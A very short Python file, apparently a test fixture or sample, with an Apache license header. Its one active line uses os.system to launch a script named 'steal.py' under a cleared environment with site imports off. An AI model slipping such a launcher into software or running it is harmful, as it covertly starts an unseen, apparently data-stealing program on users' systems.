# SPDX-License-Identifier: Apache-2.0
import goal
import os
import sys
os.system(f"env -i {sys.executable} -S steal.py")
